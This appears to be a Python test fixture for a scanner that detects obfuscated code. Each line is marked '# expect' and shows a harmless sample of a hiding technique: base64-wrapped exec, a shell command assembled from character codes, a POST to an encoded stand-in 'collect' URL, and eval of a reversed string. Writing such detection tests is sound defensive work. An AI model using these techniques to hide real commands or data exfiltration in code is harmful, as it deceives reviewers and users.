import base64
import os
import requests

exec(base64.b64decode("cHJpbnQoMSk="))  # expect
os.system("".join(chr(c) for c in [101, 99, 104, 111, 32, 49]))  # expect
requests.post(base64.b64decode("aHR0cHM6Ly9leGFtcGxlLmNvbS9jb2xsZWN0").decode(), data="x")  # expect
eval(")2(tnirp"[::-1])  # expect
